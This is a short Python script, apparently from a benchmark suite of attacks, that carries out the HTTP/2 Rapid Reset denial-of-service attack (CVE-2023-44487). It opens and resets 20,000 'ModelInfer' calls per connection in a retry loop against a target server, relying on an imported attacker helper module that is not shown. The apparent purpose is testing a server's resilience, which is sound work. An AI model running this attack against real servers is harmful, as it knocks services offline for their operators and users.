"""Calls that are reset as soon as they are begun (CVE-2023-44487)."""

from benchmarks.attacks.attacker import Aim, Http2, keep_trying, main

CALLS = 20_000


def run(aim: Aim) -> None:
    """Begin and reset calls as fast as the server reads them."""

    def attack(count: int) -> None:
        one = Http2(aim, count % 3)
        try:
            for _ in range(CALLS):
                one.reset(one.begin("ModelInfer"))
        finally:
            one.close()

    keep_trying(aim, attack)


if __name__ == "__main__":
    main(run, __doc__)
